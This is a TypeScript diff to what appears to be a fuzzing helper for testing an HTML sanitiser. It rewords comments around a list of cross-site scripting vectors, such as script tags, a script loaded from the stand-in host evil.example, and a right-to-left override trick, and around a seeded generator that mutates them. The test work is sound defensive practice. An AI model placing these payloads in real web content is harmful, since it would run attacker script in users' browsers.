@@ -1,4 +1,7 @@
-/** What has broken sanitisers before: each runs a script somewhere, once, when it gets through. `RAN()` stands for the script. */
+/**
+ * Vectors that have bypassed sanitisers before. Each runs a script once if it is not removed;
+ * `RAN()` stands for the script.
+ */
 const VECTORS: readonly string[] = [
   '<script>RAN()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -63,7 +66,7 @@ const VECTORS: readonly string[] = [
   '<p dir=rtl>\u202e<script>RAN()</script>مرحبًا</p>',
 ];
 
-/** A repeatable source of numbers between 0 and 1 (mulberry32). */
+/** A seeded random number generator between 0 and 1 (mulberry32). */
 function randomFrom(seed: number): () => number {
   let state = seed;
   return () => {
@@ -74,7 +77,10 @@ function randomFrom(seed: number): () => number {
   };
 }
 
-/** So many fragments: each vector as it is, then put into each other, cut, doubled and spelled otherwise. The same every time. */
+/**
+ * Returns `count` fragments: each vector itself, then vectors that are nested, truncated, repeated
+ * and respelled. The result is the same every time.
+ */
 export function hostileFragments(count: number): string[] {
   const random = randomFrom(2026);
   const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)]!;
